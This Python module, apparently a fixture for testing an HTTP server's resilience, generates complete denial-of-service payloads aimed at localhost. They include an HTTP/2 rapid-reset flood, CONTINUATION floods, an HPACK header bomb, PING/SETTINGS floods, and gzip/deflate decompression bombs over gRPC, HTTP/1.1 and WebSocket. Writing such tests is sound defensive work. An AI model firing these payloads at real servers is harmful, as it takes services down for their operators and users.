"""What attackers say: each attack gives its bytes piece by piece, so that none of them is held as a whole."""

import gzip
import io
import os
import struct
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
# POST / of localhost, over http, by numbers of the static table.
POST = b"\x83\x86\x84\x01\x09localhost"
MEBIBYTE = 1 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def opening():
    yield PREFACE + frame(SETTINGS, 0, 0)


def literal(name, value, remembered=False):
    """A field in full."""
    def text(words):
        return bytes([len(words)]) + words if len(words) < 127 else b"\x7f" + number(len(words) - 127) + words

    return (b"\x40" if remembered else b"\0") + text(name) + text(value)


def number(value):
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + bytearray([value]))


def rapid_resets():
    """Forty thousand requests, each given up at once."""
    yield from opening()
    for place in range(40_000):
        stream = 2 * place + 1
        yield frame(HEADERS, END_HEADERS, stream, POST) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuation_flood():
    """A head that never ends: 64 MiB of it."""
    yield from opening()
    yield frame(HEADERS, END_STREAM, 1, POST)
    for _ in range(4096):
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 16_000)[:16_384])


def empty_continuations():
    """A head that never ends, in frames without content."""
    yield from opening()
    yield frame(HEADERS, END_STREAM, 1, POST)
    for _ in range(400):
        yield frame(CONTINUATION, 0, 1) * 1000


def header_bomb():
    """A field of the table that is named sixteen thousand times: 64 MiB of fields in one frame."""
    yield from opening()
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, POST + literal(b"x", b"y" * 4000, True))
    for stream in range(3, 43, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, POST + b"\xbe" * 16_000)


def oversized_frame():
    """The beginning of a frame of 16 MiB, where 16 KiB are agreed."""
    yield from opening()
    yield frame(HEADERS, END_HEADERS, 1, POST)
    yield b"\xff\xff\xff" + struct.pack(">BBI", DATA, 0, 1)
    yield bytes(MEBIBYTE // 4)


def pings():
    """Two hundred thousand pings, and as many settings."""
    yield from opening()
    for _ in range(200):
        yield (frame(PING, 0, 0, b"attack!!") + frame(SETTINGS, 0, 0)) * 1000


def bomb(mebibytes=256):
    """So many MiB of zeros, compressed."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as packer:
        for _ in range(mebibytes):
            packer.write(bytes(MEBIBYTE))
    return out.getvalue()


def grpc_bomb():
    """A message of gRPC that is 48 MiB long when it is unpacked: as much as fits into the first window of a server."""
    message = bomb(48)
    content = b"\1" + struct.pack(">I", len(message)) + message
    yield from opening()
    fields = literal(b"content-type", b"application/grpc") + literal(b"grpc-encoding", b"gzip") + literal(b"te", b"trailers")
    yield frame(HEADERS, END_HEADERS, 1, POST + fields)
    assert len(content) < 1 << 16
    parts = [content[at : at + 16_000] for at in range(0, len(content), 16_000)]
    for place, part in enumerate(parts):
        yield frame(DATA, END_STREAM if place + 1 == len(parts) else 0, 1, part)


def body_bomb():
    """A request over HTTP/1.1 whose content is 256 MiB long when it is unpacked."""
    content = bomb()
    yield b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % len(content)
    yield content


def socket_bomb():
    """A message of a WebSocket that is 256 MiB long when it is unpacked."""
    yield (
        b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: cGxheWVkIGJ5IHJlY29yZA==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    )
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = b"".join([packer.compress(bytes(MEBIBYTE)) for _ in range(256)]) + packer.flush(zlib.Z_SYNC_FLUSH)
    content = content.removesuffix(b"\0\0\xff\xff")
    mask = os.urandom(4)
    yield b"\xc2\xff" + struct.pack(">Q", len(content)) + mask
    yield bytes(byte ^ mask[place % 4] for place, byte in enumerate(content))


OVER_HTTP2 = [rapid_resets, continuation_flood, empty_continuations, header_bomb, oversized_frame, pings, grpc_bomb]
OVER_HTTP1 = [body_bomb, socket_bomb]
